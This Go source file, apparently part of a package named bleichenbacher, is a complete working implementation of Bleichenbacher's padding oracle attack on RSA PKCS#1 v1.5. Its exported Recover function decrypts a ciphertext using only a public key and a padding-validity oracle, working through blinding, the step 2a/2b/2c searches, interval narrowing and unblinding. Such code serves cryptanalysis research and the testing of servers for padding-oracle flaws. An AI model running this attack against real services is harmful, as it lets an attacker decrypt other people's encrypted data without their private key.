package bleichenbacher

import (
	"context"
	"fmt"
	"math/big"
)

// the context is polled once per this many oracle queries inside a search
const cancelCheckInterval = 256

// attack holds the state of one run of the padding oracle attack
type attack struct {
	ctx    context.Context
	cfg    *config
	oracle PaddingOracle

	e *big.Int
	n *big.Int
	c *big.Int // the ciphertext under attack

	// B = 2^(8(k-2)), so that a conformant plaintext m satisfies 2B <= m < 3B
	twoB   *big.Int
	threeB *big.Int

	s0    *big.Int // blinding factor, 1 unless step 1 had to blind
	c0    *big.Int // c * s0^e mod n
	s     *big.Int // current multiplier
	ivals *IntervalSet

	queries int
	scratch *big.Int
}

// Recover decrypts ciphertext using only the padding oracle and the public key, and returns the padded plaintext integer.
// Pass the result to ExtractMessage to read the message it carries.
//
// The ciphertext must be accepted by oracle, unless WithBlinding is given. The oracle must be deterministic and must
// answer for the private key matching pub; if it does not, the result is undefined and an ErrSearchExhausted is likely.
//
// Recover is single-threaded and can run for a long time on large moduli. Cancel ctx to stop it.
func Recover(ctx context.Context, oracle PaddingOracle, ciphertext *big.Int, pub *PublicKey, opts ...Option) (*big.Int, error) {
	cfg := defaultConfig()
	for _, opt := range opts {
		opt(cfg)
	}

	x, err := newAttack(ctx, cfg, oracle, ciphertext, pub)
	if err != nil {
		return nil, err
	}
	return x.run()
}

func newAttack(ctx context.Context, cfg *config, oracle PaddingOracle, ciphertext *big.Int, pub *PublicKey) (*attack, error) {
	switch {
	case oracle == nil:
		return nil, fmt.Errorf("%w: nil oracle", ErrInvalidInput)
	case pub == nil || pub.N == nil || pub.E == nil:
		return nil, fmt.Errorf("%w: nil public key", ErrInvalidInput)
	case ciphertext == nil:
		return nil, fmt.Errorf("%w: nil ciphertext", ErrInvalidInput)
	case pub.N.Sign() <= 0 || pub.E.Sign() <= 0:
		return nil, fmt.Errorf("%w: modulus and exponent must be positive", ErrInvalidInput)
	case pub.Size() < 3:
		return nil, fmt.Errorf("%w: modulus must be at least 3 bytes, got %d", ErrInvalidInput, pub.Size())
	case ciphertext.Sign() < 0 || ciphertext.Cmp(pub.N) >= 0:
		return nil, fmt.Errorf("%w: ciphertext must lie in [0, N)", ErrInvalidInput)
	}

	b := new(big.Int).Lsh(bigOne, uint(8*(pub.Size()-2)))

	return &attack{
		ctx:     ctx,
		cfg:     cfg,
		oracle:  oracle,
		e:       new(big.Int).Set(pub.E),
		n:       new(big.Int).Set(pub.N),
		c:       new(big.Int).Set(ciphertext),
		twoB:    new(big.Int).Mul(bigTwo, b),
		threeB:  new(big.Int).Mul(bigThree, b),
		scratch: new(big.Int),
	}, nil
}

// run drives the attack until the interval set collapses to a single point
func (x *attack) run() (*big.Int, error) {
	if err := x.blind(); err != nil {
		return nil, err
	}

	// every conformant plaintext lies in [2B, 3B - 1]
	x.ivals = NewIntervalSet(Interval{
		Lo: new(big.Int).Set(x.twoB),
		Hi: new(big.Int).Sub(x.threeB, bigOne),
	})

	for i := 1; ; i++ {
		if err := x.ctx.Err(); err != nil {
			return nil, fmt.Errorf("attack interrupted at iteration %d: %w", i, err)
		}

		var step string
		var s *big.Int
		var err error
		switch {
		case i == 1:
			step = "2a"
			s, err = x.searchFirst()
		case x.ivals.Len() >= 2:
			step = "2b"
			s, err = x.searchMany()
		default:
			step = "2c"
			s, err = x.searchOne()
		}
		if err != nil {
			return nil, err
		}
		x.s = s

		if err := x.narrow(); err != nil {
			return nil, err
		}
		x.report(i, step)

		if x.ivals.Len() == 0 {
			return nil, fmt.Errorf("%w: interval set is empty after iteration %d", ErrSearchExhausted, i)
		}
		if m, ok := x.ivals.Point(); ok {
			x.cfg.logger.Printf("recovered plaintext after %d iterations and %d queries", i, x.queries)
			return x.unblind(m)
		}
	}
}

// blind is step 1: find s0 such that c * s0^e is conformant. If c is already conformant, s0 = 1
func (x *attack) blind() error {
	if x.query(x.c) {
		x.s0 = big.NewInt(1)
		x.c0 = new(big.Int).Set(x.c)
		return nil
	}
	if x.cfg.blinding == nil {
		return fmt.Errorf("%w: ciphertext is not conformant", ErrOracleViolation)
	}
	// 0 * s0^e is 0 for every s0, so no blinding factor can ever be accepted
	if x.c.Sign() == 0 {
		return fmt.Errorf("%w: a zero ciphertext cannot be blinded", ErrOracleViolation)
	}

	x.cfg.logger.Printf("ciphertext is not conformant, blinding")
	c0 := new(big.Int)
	for {
		if x.queries%cancelCheckInterval == 0 {
			if err := x.ctx.Err(); err != nil {
				return fmt.Errorf("attack interrupted during blinding: %w", err)
			}
		}

		s0, err := randomInRange(x.cfg.blinding, bigTwo, x.n)
		if err != nil {
			return fmt.Errorf("failed to draw blinding factor: %s", err)
		}
		c0.Exp(s0, x.e, x.n)
		c0.Mul(c0, x.c)
		c0.Mod(c0, x.n)
		if x.query(c0) {
			x.s0 = s0
			x.c0 = c0
			x.cfg.logger.Printf("blinded after %d queries", x.queries)
			return nil
		}
	}
}

// unblind is step 4: m = a * s0^-1 mod n
func (x *attack) unblind(a *big.Int) (*big.Int, error) {
	if x.s0.Cmp(bigOne) == 0 {
		return a, nil
	}

	inv, err := modInverse(x.s0, x.n)
	if err != nil {
		return nil, fmt.Errorf("failed to unblind: %w", err)
	}
	m := new(big.Int).Mul(a, inv)
	return m.Mod(m, x.n), nil
}

// searchFirst is step 2a: the smallest s >= ceil(n / 3B) that yields a conformant ciphertext
func (x *attack) searchFirst() (*big.Int, error) {
	sMin, err := divCeil(x.n, x.threeB)
	if err != nil {
		return nil, err
	}

	s, err := x.findS(sMin, x.n)
	if err != nil {
		return nil, err
	} else if s == nil {
		return nil, fmt.Errorf("step 2a: %w", ErrSearchExhausted)
	}
	return s, nil
}

// searchMany is step 2b: the smallest s above the previous one, used while several intervals remain
func (x *attack) searchMany() (*big.Int, error) {
	sMin := new(big.Int).Add(x.s, bigOne)

	s, err := x.findS(sMin, x.n)
	if err != nil {
		return nil, err
	} else if s == nil {
		return nil, fmt.Errorf("step 2b: %w", ErrSearchExhausted)
	}
	return s, nil
}

// searchOne is step 2c: with a single interval [a, b] left, pick r and s so that roughly half of it is cut away each round
func (x *attack) searchOne() (*big.Int, error) {
	m := x.ivals.ivals[0]

	// r <- ceil(2(b*s - 2B) / n)
	r := new(big.Int).Mul(m.Hi, x.s)
	r.Sub(r, x.twoB)
	r.Mul(r, bigTwo)
	r, err := divCeil(r, x.n)
	if err != nil {
		return nil, err
	}

	rn := new(big.Int)
	for {
		rn.Mul(r, x.n)

		// s in [ceil((2B + rn) / b), ceil((3B + rn) / a))
		sMin, err := divCeil(new(big.Int).Add(x.twoB, rn), m.Hi)
		if err != nil {
			return nil, err
		}
		if sMin.Cmp(x.n) >= 0 {
			return nil, fmt.Errorf("step 2c: %w", ErrSearchExhausted)
		}
		sMax, err := divCeil(new(big.Int).Add(x.threeB, rn), m.Lo)
		if err != nil {
			return nil, err
		}

		s, err := x.findS(sMin, minInt(sMax, x.n))
		if err != nil {
			return nil, err
		} else if s != nil {
			return s, nil
		}
		r.Add(r, bigOne)
	}
}

// narrow is step 3: intersect every interval with the plaintexts that s could have mapped into [2B, 3B)
func (x *attack) narrow() error {
	next := NewIntervalSet()
	threeBMinusOne := new(big.Int).Sub(x.threeB, bigOne)

	for _, m := range x.ivals.ivals {
		// r in [ceil((a*s - 3B + 1) / n), floor((b*s - 2B) / n)]
		rMin := new(big.Int).Mul(m.Lo, x.s)
		rMin.Sub(rMin, threeBMinusOne)
		rMin, err := divCeil(rMin, x.n)
		if err != nil {
			return err
		}
		rMax := new(big.Int).Mul(m.Hi, x.s)
		rMax.Sub(rMax, x.twoB)
		rMax, err = divFloor(rMax, x.n)
		if err != nil {
			return err
		}

		rn := new(big.Int)
		for r := rMin; r.Cmp(rMax) <= 0; r.Add(r, bigOne) {
			rn.Mul(r, x.n)

			lo, err := divCeil(new(big.Int).Add(x.twoB, rn), x.s)
			if err != nil {
				return err
			}
			hi, err := divFloor(new(big.Int).Add(threeBMinusOne, rn), x.s)
			if err != nil {
				return err
			}

			next.Insert(maxInt(m.Lo, lo), minInt(m.Hi, hi))
		}
	}

	x.ivals = next
	return nil
}

// findS returns the smallest s in [sMin, sMax) for which c0 * s^e is conformant, or nil if there is none
func (x *attack) findS(sMin, sMax *big.Int) (*big.Int, error) {
	cPrime := new(big.Int)
	for s := new(big.Int).Set(sMin); s.Cmp(sMax) < 0; s.Add(s, bigOne) {
		if x.queries%cancelCheckInterval == 0 {
			if err := x.ctx.Err(); err != nil {
				return nil, fmt.Errorf("attack interrupted after %d queries: %w", x.queries, err)
			}
		}

		// c' <- c0 * s^e mod n
		cPrime.Exp(s, x.e, x.n)
		cPrime.Mul(cPrime, x.c0)
		cPrime.Mod(cPrime, x.n)
		if x.query(cPrime) {
			return s, nil
		}
	}
	return nil, nil
}

// query asks the oracle about c. The oracle is handed a scratch copy and cannot disturb the attack's state
func (x *attack) query(c *big.Int) bool {
	x.queries++
	return x.oracle.Check(x.scratch.Set(c))
}

func (x *attack) report(i int, step string) {
	x.cfg.logger.Printf("iteration %d: step %s chose s=%x, %d interval(s) covering %d bits, %d queries",
		i, step, x.s, x.ivals.Len(), x.ivals.Size().BitLen(), x.queries)

	if x.cfg.observer == nil {
		return
	}
	x.cfg.observer(Round{
		Iteration: i,
		Step:      step,
		S:         new(big.Int).Set(x.s),
		Intervals: x.ivals.Intervals(),
		Queries:   x.queries,
	})
}
